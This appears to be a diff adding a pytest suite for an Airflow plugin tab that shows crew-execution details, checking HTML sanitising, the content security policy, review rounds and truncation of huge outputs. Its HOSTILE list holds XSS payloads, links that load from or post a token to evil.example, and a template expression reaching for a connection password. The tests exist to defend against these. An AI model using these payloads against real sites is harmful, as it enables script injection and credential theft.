@@ -1,0 +1,356 @@
+"""What the tab shows of an execution: everything that is known, nothing that acts, and no more than a page can hold."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+from faults.server import FaultServer
+from faults.wire import Reply
+from viewed_run import Run, about
+
+from airflow_crew_provider.decorators.crew import _CrewDecoratedOperator
+from airflow_crew_provider.models import Json, output_sha256
+from airflow_crew_provider.operators.crew import CrewKickoffOperator, CrewResumeOperator
+from airflow_crew_provider.sensors.crew import CrewStatusSensor
+from airflow_crew_provider.view import page, plugin
+from airflow_crew_provider.view.execution import LONGEST, Seen, of_details, progress, with_decisions
+from airflow_crew_provider.view.page import Facts
+from scripts.stack.waiting import PATIENCE
+
+pytestmark = pytest.mark.since_airflow("3.1")
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "</style></script><script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x)",
+    "<iframe src='https://evil.example'></iframe><meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<a href='javascript:alert(1)' onclick=alert(1)>x</a> <svg/onload=alert(1)> <base href=//evil.example>",
+    '" onmouseover="alert(1)" x="',
+    "<style>*{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example>",
+    "```diff\n+<script>alert(1)</script>\n-<img src=x onerror=alert(1)>\n```",
+    "<form action=https://evil.example><input name=token><button>go</button></form>",
+    "{{ 7*7 }} {% raw %} {{ conn.crew_default.password }}",
+    "[x]: javascript:alert(1)\n\n[x]\n\n<javascript:alert(1)>\n\n[^1]: ![x](//evil.example)",
+]
+ALLOWED = {
+    *("header", "div", "h1", "h2", "h3", "h4", "h5", "h6", "p", "span", "nav", "a"),
+    *("b", "i", "bdi", "ul", "ol", "li", "section", "article", "blockquote", "details", "summary", "pre"),
+    *("code", "dl", "dt", "dd", "footer", "table", "thead", "tbody", "tr", "th", "td", "em"),
+    *("strong", "hr", "br", "ins", "del", "time", "progress"),
+}
+
+
+class Elements(HTMLParser):
+    """The elements of a page, as a browser finds them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attributes)))
+
+
+def details_of(text: str) -> Json:
+    """Return details in which every text is this one."""
+    usage = {"total_tokens": 5, "cost_usd": 0.1, "by_model": {text: {"total_tokens": 5}}}
+    task = dict.fromkeys(("task_id", "name", "agent", "state", "started_at", "output"), text)
+    names = ("task_id", "asked_at", "question", "draft", "output_sha256", "outcome", "human_feedback", "by")
+    asked = {**dict.fromkeys(names, text), "number": text, "outcomes": [text], "decided_at": None, "is_approve": False}
+    decided = {**asked, "decided_at": "2026-11-20T12:00:00+00:00", "edited": True, "draft": f"{text}\n\nmore"}
+    return {
+        **dict.fromkeys(("execution_id", "crew", "dialect", "created_at", "ended_at", "error", "output"), text),
+        **{
+            "state": "completed",
+            "kickoff_ids": [text],
+            "inputs": {text: text, "b": {text: [text]}},
+            "meta": {text: text},
+        },
+        **{"usage": usage, "output_json": None, "tasks": [{**task, "seconds": text, "usage": usage}]},
+        **{"rounds": [decided, {**asked, "output_sha256": "other"}], "left_out": [text], "work_seconds": text},
+    }
+
+
+def decision_of(text: str) -> Json:
+    names = ("execution_id", "crew_task_id", "human_feedback", "outcome", "output", "edited_output")
+    return {
+        **dict.fromkeys(names, text),
+        **{"reviewer": {"id": text, "name": text}, "is_approve": True, "decided_at": "2026-11-20T12:00:00+00:00"},
+        **{"output_sha256": text, "approvals": [{"reviewer": {"id": text, "name": text}, "decided_at": text}]},
+    }
+
+
+def rendered(found: Json | None, decisions: list[Json] | None = None, **seen: Any) -> str:
+    given = None if found is None else of_details(found)
+    facts = Facts("k-1", "e-1", "crew_default", Seen(given, **seen), decisions or [])
+    return page.fragment(facts, form="/dags/d/required_actions", run="/crew-view/dags/d/runs/r")
+
+
+@pytest.mark.parametrize("state", ["running", "pending", "completed", "error", "<script>alert(1)</script>"])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_in_any_field_becomes_an_element_or_an_attribute_that_acts(text: str, state: str) -> None:
+    found = {**details_of(text), "state": state}
+    html = rendered(found, [decision_of(text)], problem=text, link="https://crew.example.com/view?id=1")
+    html += rendered({**found, "output_json": {text: [text]}}, [])
+    for tag, attributes in Elements(html).found:
+        assert tag in ALLOWED, (tag, attributes)
+        assert not [
+            name for name in attributes if name.startswith("on") or name in ("src", "style", "srcset", "action")
+        ]
+        href = attributes.get("href") or "/"
+        assert href.startswith(("/", "https://", "http://", "mailto:")), href
+        assert href.startswith("//") is False
+    assert "49" not in html.replace("evil", "")
+
+
+def test_the_policy_lets_a_page_run_its_own_script_and_load_nothing() -> None:
+    policy = dict(each.strip().split(" ", 1) for each in page.policy().split(";"))
+    assert policy["default-src"] == "'none'"
+    assert policy["frame-ancestors"] == "'self'"
+    assert policy["script-src"].startswith("'sha256-")
+    assert policy["connect-src"] == "'self'"
+    assert "unsafe" not in page.policy()
+
+
+def test_a_page_holds_the_very_script_and_style_that_its_policy_names() -> None:
+    import hashlib
+    from base64 import b64encode
+
+    html = page.task_page("t", "", address="a", is_live=True, run="r")
+    for tag in ("script", "style"):
+        text = html.partition(f"<{tag}>")[2].partition(f"</{tag}>")[0]
+        assert text
+        assert f"'sha256-{b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" in page.policy()
+
+
+@pytest.mark.parametrize("bad", [None, 1, "x", [], [1, "x", None], {"a": 1}])
+@pytest.mark.parametrize("name", sorted(details_of("x")))
+def test_details_with_a_field_of_another_type_are_shown_all_the_same(name: str, bad: Any) -> None:
+    if name == "state":
+        return
+    assert "<header" in rendered({**details_of("x"), name: bad}, [decision_of("x")])
+
+
+DRAFTS = ["Draft one. It is long.", "Draft two. It is long."]
+
+
+def round_of(number: int, draft: str, **more: Any) -> Json:
+    asked = {"number": number, "task_id": "write", "asked_at": "2026-11-20T12:00:00+00:00", "draft": draft}
+    undecided = dict.fromkeys(("decided_at", "is_approve", "outcome", "human_feedback", "edited", "by", "question"))
+    return {**asked, **undecided, "output_sha256": output_sha256(draft), "outcomes": None, **more}
+
+
+def decision(draft: str, *, approve: bool, name: str = "Ann", **more: Any) -> Json:
+    who = {"id": name.lower(), "name": name}
+    said = {"is_approve": approve, "human_feedback": "" if approve else "Shorter.", "reviewer": who}
+    when = {"decided_at": "2026-11-20T12:01:00+00:00", "output_sha256": output_sha256(draft), "output": draft}
+    return {**said, **when, "crew_task_id": "write", "execution_id": "e-1", **more}
+
+
+def test_a_round_names_the_person_whom_airflow_knows() -> None:
+    by_token = {"decided_at": "2026-11-20T12:02:00+00:00", "is_approve": False, "by": "organization"}
+    found = {
+        **details_of("x"),
+        "state": "pending",
+        "rounds": [round_of(1, DRAFTS[0], **by_token), round_of(2, DRAFTS[1])],
+    }
+    html = rendered(found, [decision(DRAFTS[0], approve=False)])
+    assert "by Ann" in html
+    assert "organization" not in html
+    assert "Changes since round 1" in html
+    assert "<del>-Draft one.</del>" in html
+    assert "<ins>+Draft two.</ins>" in html
+    assert html.count('aria-label="Round') == 2
+
+
+def test_several_approvers_and_an_edit_are_told() -> None:
+    approvals = [{"reviewer": {"id": "b", "name": "Bob"}, "decided_at": "2026-11-20T12:00:30+00:00"}]
+    found = {**details_of("x"), "rounds": [round_of(1, DRAFTS[0])]}
+    html = rendered(found, [decision(DRAFTS[0], approve=True, edited_output="Mine.", approvals=approvals)])
+    assert "by Ann" in html
+    assert "Approved by Bob" in html
+    assert ">edited<" in html
+
+
+def test_without_details_the_rounds_are_those_that_airflow_kept() -> None:
+    status = {
+        "state": "pending",
+        "tasks": [],
+        "rounds": [{"task_id": "write", "draft": DRAFTS[1], "output_sha256": "h"}],
+    }
+    found = with_decisions(of_details(status), [decision(DRAFTS[0], approve=False)])
+    assert [(each["number"], each["draft"]) for each in found["rounds"]] == [(1, DRAFTS[0]), (2, DRAFTS[1])]
+
+
+def test_a_draft_that_comes_again_unchanged_is_another_round() -> None:
+    found = with_decisions(
+        of_details({"state": "completed", "rounds": [round_of(1, DRAFTS[0]), round_of(2, DRAFTS[0])]}),
+        [decision(DRAFTS[0], approve=False), decision(DRAFTS[0], approve=True)],
+    )
+    assert [each["decision"]["is_approve"] for each in found["rounds"]] == [False, True]
+
+
+@pytest.mark.parametrize(
+    ("found", "said"),
+    [
+        ({"tasks": []}, None),
+        ({"tasks": [{"state": "completed"}, {"state": "running"}, {"state": "not_started"}]}, (1, 3)),
+        ({"tasks": [], "completed_tasks": 1, "total_tasks": 3}, (1, 3)),
+        ({"tasks": [], "completed_tasks": 9, "total_tasks": 3}, (3, 3)),
+        ({"tasks": [], "completed_tasks": None, "total_tasks": 3}, None),
+        ({"tasks": [], "completed_tasks": 0, "total_tasks": 0}, None),
+    ],
+)
+def test_the_progress_is_counted_where_it_can_be(found: Json, said: Any) -> None:
+    assert progress(found) == said
+
+
+def test_the_same_facts_are_the_same_page() -> None:
+    assert rendered(details_of("x")) == rendered(details_of("x"))
+
+
+@pytest.mark.parametrize("piece", ["word ", "a", "*", "[", "`x", "> ", "_a*", "![]("])
+def test_an_output_of_20_megabytes_is_cut_and_shown_at_once(piece: str) -> None:
+    text = piece * (20_000_000 // len(piece))
+    found = {**details_of("x"), "state": "completed", "output": text, "tasks": [{"state": "completed", "output": text}]}
+    began = time.monotonic()
+    html = rendered(found)
+    assert time.monotonic() - began < PATIENCE
+    assert len(html) < 20 * LONGEST
+    assert "Only the beginning is shown" in html
+
+
+def test_an_answer_of_20_megabytes_is_not_read_to_its_end(
+    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
+) -> None:
+    connect(server.url)
+    large = json.dumps({"status": "completed", "result": {"output": "x" * 20_000_000, "tasks": []}})
+    server.on("GET /status/k-1", Reply(body=large))
+    dag_run.task("kickoff", about())
+    deadline = time.monotonic() + PATIENCE
+    while "16 MiB" not in (text := client.get(dag_run.page("kickoff", end="/fragment")).text):
+        assert time.monotonic() < deadline
+    assert len(text) < 10_000
+
+
+@pytest.fixture(scope="module")
+def service() -> Iterator[Any]:
+    local = pytest.importorskip("crew_service.local", reason="needs the crew service")
+    tasks = [
+        {"id": "research", "agent": "Researcher", "output": "Some *notes*"},
+        {"id": "write", "agent": "Writer", "human_input": True, "output": DRAFTS[0], "revised": DRAFTS[1]},
+    ]
+    with local.running_service(scenario={"inputs": ["topic"], "tasks": tasks}) as service:
+        yield service
+
+
+def test_the_real_service_tells_tasks_drafts_inputs_and_the_link(
+    client: TestClient, dag_run: Run, service: Any, connect: Any
+) -> None:
+    from airflow_crew_provider.hooks.crew import CrewHook
+
+    connect(service.url, token=service.token)
+    kickoff_id = CrewHook().kickoff({"topic": "tea"})
+    dag_run.task("kickoff", about(kickoff_id, view=f"/view?id={kickoff_id}"))
+    dag_run.task("review", about(kickoff_id), state="awaiting_input")
+    dag_run.asks("review")
+    wanted = ["Waits for a person", "A person is asked", "Researcher", "<em>notes</em>", DRAFTS[0], "<dd>tea</dd>"]
+    wanted += [f'href="{service.url}/view?id={kickoff_id}"', "/tasks/review/required_actions"]
+    deadline, text = time.monotonic() + PATIENCE, ""
+    while missing := [each for each in wanted if each not in text]:
+        assert time.monotonic() < deadline, missing
+        time.sleep(0.1)
+        text = client.get(dag_run.page("kickoff", end="/fragment")).text
+    assert "This deployment does not tell" not in text
+
+
+def test_the_overview_of_a_mapped_run_has_the_labels_and_asks_no_deployment(
+    client: TestClient, dag_run: Run, server: FaultServer, connect: Any
+) -> None:
+    connect(server.url)
+    for index in range(20):
+        state = "failed" if index == 3 else "deferred"
+        dag_run.task("letter", about(f"k-{index}"), index, state=state, rendered_map_index=f"Customer {index:02}")
+    html = client.get(dag_run.path()).text
+    assert [f"Customer {index:02}" in html for index in range(20)] == [True] * 20
+    assert html.count('<li class="error">') == 1
+    assert "20 executions" in html
+    assert server.requests == []
+
+
+def test_a_task_that_has_started_nothing_says_so_and_leads_to_the_others(client: TestClient, dag_run: Run) -> None:
+    dag_run.task("kickoff")
+    answer = client.get(dag_run.page("kickoff"))
+    assert "No execution yet" in answer.text
+    assert client.get(dag_run.page("nothing")).status_code == 404
+    assert client.get(dag_run.page("kickoff", "7")).status_code == 404
+
+
+COST = """
+import sys, time, tracemalloc
+from airflow.providers.common.compat.sdk import AirflowPlugin, conf
+import airflow_crew_provider.inbox.plugin, airflow_crew_provider.compat.version
+conf.getboolean("core", "load_examples")
+before = set(sys.modules)
+tracemalloc.start()
+began = time.perf_counter()
+import airflow_crew_provider.view.plugin
+seconds, memory = time.perf_counter() - began, tracemalloc.get_traced_memory()[1]
+print(seconds * 1000, memory, *sorted(set(sys.modules) - before))
+"""
+
+
+def test_an_api_server_that_never_shows_the_tab_pays_next_to_nothing_for_it() -> None:
+    measured = []
+    for _ in range(3):
+        done = subprocess.run(
+            [sys.executable, "-c", COST], capture_output=True, text=True, timeout=PATIENCE, check=True
+        )
+        measured.append(done.stdout.split())
+    assert {name for _, _, *names in measured for name in names} == {
+        "airflow_crew_provider.view",
+        "airflow_crew_provider.view.plugin",
+    }
+    assert min(float(milliseconds) for milliseconds, *_ in measured) < 5
+    assert max(int(memory) for _, memory, *_ in measured) < 1_000_000
+
+
+@pytest.mark.parametrize(
+    ("version", "settings", "shown"),
+    [
+        ((3, 0), {}, []),
+        ((3, 0), {"AIRFLOW__CREW__TASK_TAB": "True"}, []),
+        ((3, 1), {}, []),
+        ((3, 3), {"AIRFLOW__CREW__TASK_TAB": "True"}, ["task_instance"]),
+        ((3, 3), {"AIRFLOW__CREW__RUN_TAB": "True"}, ["dag_run"]),
+        ((3, 4), {}, ["task_instance"]),
+        ((3, 4), {"AIRFLOW__CREW__TASK_TAB": "False"}, []),
+    ],
+)
+def test_the_tab_is_where_airflow_can_keep_it_to_our_tasks_or_a_setting_asks_for_it(
+    monkeypatch: pytest.MonkeyPatch, version: tuple[int, int], settings: dict[str, str], shown: list[str]
+) -> None:
+    for name, value in settings.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setattr("airflow_crew_provider.compat.version.RELEASE", version)
+    views = plugin.external_views()
+    assert [each["destination"] for each in views] == shown
+    assert not [each for each in views if each["href"].startswith("/")]  # else not found where Airflow is below a path
+
+
+def test_the_tab_names_each_operator_that_notes_its_execution() -> None:
+    assert set(plugin.OPERATORS) == {
+        *(each.__name__ for each in (CrewKickoffOperator, CrewResumeOperator, CrewStatusSensor)),
+        "CrewReviewOperator",
+        _CrewDecoratedOperator.custom_operator_name,
+    }
